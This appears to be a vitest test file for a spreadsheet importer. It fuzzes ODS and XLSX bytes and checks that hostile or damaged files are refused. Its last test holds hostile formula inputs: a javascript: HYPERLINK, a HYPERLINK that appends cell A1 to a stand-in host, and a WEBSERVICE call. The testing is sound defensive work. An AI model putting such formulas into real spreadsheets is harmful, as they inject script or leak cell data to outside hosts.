import { describe, expect, it } from 'vitest'
import { recogniseFile } from '../../../src/import/recogniseFile'
import { ImportRefusal } from '../../../src/import/refusal'
import { HOSTILE_FILES, SOUND } from './hostileShapes'
import { makeList } from './madeLists'
import { makeOds, makeXlsx } from './makeFiles'

const file = (bytes: Uint8Array) => ({ name: 'list.ods', bytes })

describe('a hostile or damaged file', () => {
  it.each(HOSTILE_FILES)('is refused in a sentence where it %s', (_, bytes, sentence) => {
    let refusal: unknown
    try {
      recogniseFile(file(bytes))
    } catch (error) {
      refusal = error
    }
    expect(refusal).toBeInstanceOf(ImportRefusal)
    expect(refusal).toHaveProperty('message', expect.stringMatching(sentence))
  })

  it('is refused or read, and never breaks the reading, whichever byte is changed', () => {
    let seed = 7
    const random = (below: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31
      return seed % below
    }
    const files = [SOUND, makeXlsx({ name: 'a', rows: [['x', 'y']] }).bytes, makeList().bytes]
    const outcomes = Array.from({ length: 600 }, (_, round) => {
      const bytes = (files[round % files.length] ?? SOUND).slice()
      for (let change = 0; change <= round % 4; change++) bytes[random(bytes.length)] = random(256)
      const cut = round % 5 === 0 ? random(bytes.length) : bytes.length
      try {
        recogniseFile(file(bytes.slice(0, cut)))
        return 'read'
      } catch (error) {
        return error instanceof ImportRefusal ? 'refused' : String(error)
      }
    })
    expect([...new Set(outcomes)].sort()).toEqual(['read', 'refused'])
  })

  it('has a formula kept as text, and only a plain https link taken for one', () => {
    const formulas = [
      'of:=HYPERLINK("javascript:alert(1)";"x")',
      'of:=HYPERLINK("https://a.example/"&A1;"x")',
      'of:=WEBSERVICE("https://a.example/")',
    ]
    const rows = formulas.map((formula) => [{ text: 'x', formula }])
    const [sheet] = recogniseFile(makeOds([{ name: 'a', rows }])).sheets
    expect(sheet?.rows.map(({ cells }) => cells.get(0))).toEqual(
      formulas.map((formula) => ({ text: 'x', formula })),
    )
  })
})
